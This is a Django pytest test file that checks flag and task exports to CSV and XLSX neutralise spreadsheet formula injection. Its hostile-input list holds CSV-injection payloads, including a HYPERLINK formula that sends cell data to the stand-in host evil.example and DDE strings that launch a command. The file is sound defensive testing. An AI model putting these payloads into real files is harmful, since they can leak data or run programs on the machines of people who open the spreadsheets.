"""Formula injection: imported text never becomes a formula in any export (OWASP CSV injection).

Every export (manage.py export_flags / export_tasks, the flag list's CSV and XLSX buttons) writes
through `exports.spreadsheet_cell`; XLSX cells are strings, never formulas.
"""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from callback import exports
from callback.models import AuditEvent

from .factories import CallbackTaskFactory, PartyFactory, PolicyFactory
from .factories.flags import ContactFlagFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "#N/A",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("　=1", "'　=1"),  # an ideographic space before it
        ("-5", "-5"),
        ("+8613800138000", "+8613800138000"),
        ("陈磊", "陈磊"),
        ("a=b", "a=b"),
        (None, ""),
        (3, "3"),
    ],
)
def test_spreadsheet_cell(value, expected):
    assert exports.spreadsheet_cell(value) == expected


@pytest.fixture
def hostile_flags():
    for n, value in enumerate(HOSTILE):
        policy = PolicyFactory(policy_no=f"P-INJ-{n}", agent_name=value, branch_code="B1101")
        PartyFactory(policy=policy, name=value)
        ContactFlagFactory(policy=policy, detail=value)


def _assert_no_formula_text(cells):
    for cell in cells:
        text = "" if cell is None else str(cell)
        assert text[:1] not in ("=", "+", "-", "@", "\t") and not text.lstrip(" 　").startswith("="), cell


def test_csv_export_neutralises_every_cell(tmp_path, hostile_flags):
    out = tmp_path / "flags.csv"
    call_command("export_flags", "--output", str(out))
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        _assert_no_formula_text([row["detail"], row["agent_name"], row["applicant_name"]])
    first = next(r for r in rows if r["policy_no"] == "P-INJ-0")
    assert first["detail"] == "'" + HOSTILE[0]  # the value is kept, shown as text


def _xlsx_cells(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="e"' not in sheet_xml  # no formula, no error cell
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_xlsx_export_writes_strings_never_formulas(tmp_path, hostile_flags):
    out = tmp_path / "flags.xlsx"
    call_command("export_flags", "--output", str(out))
    cells = _xlsx_cells(out.read_bytes())
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
    _assert_no_formula_text(cell.value for cell in cells)
    assert "'" + HOSTILE[0] in [cell.value for cell in cells]


def test_xlsx_export_survives_control_characters(tmp_path):
    policy = PolicyFactory(policy_no="P-CTL-1")
    PartyFactory(policy=policy, name="陈\x01磊")
    ContactFlagFactory(policy=policy, detail="bad\x0bvalue")
    out = tmp_path / "flags.xlsx"
    assert call_command("export_flags", "--output", str(out)) is None
    values = [cell.value for cell in _xlsx_cells(out.read_bytes())]
    assert "陈磊" in values and "badvalue" in values


def test_web_exports_neutralise_and_audit_the_row_count(supervisor_client, hostile_flags):
    response = supervisor_client.get(reverse("flag_export"), {"format": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    for row in rows:
        _assert_no_formula_text([row["detail"], row["agent_name"], row["applicant_name"]])
    event = AuditEvent.objects.get(action="export_flags")
    assert event.detail["rows"] == len(HOSTILE) == len(rows)
    response = supervisor_client.get(reverse("flag_export"), {"format": "xlsx"})
    cells = _xlsx_cells(b"".join(response.streaming_content))
    _assert_no_formula_text(cell.value for cell in cells)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_task_export_neutralises(tmp_path, suffix):
    CallbackTaskFactory(policy=PolicyFactory(policy_no="=1+2"))
    out = tmp_path / f"tasks.{suffix}"
    call_command("export_tasks", "--output", str(out))
    if suffix == "csv":
        text = out.read_text(encoding="utf-8-sig")
        assert "'=1+2" in text and "\n=1+2" not in text
    else:
        assert "'=1+2" in [cell.value for cell in _xlsx_cells(out.read_bytes())]
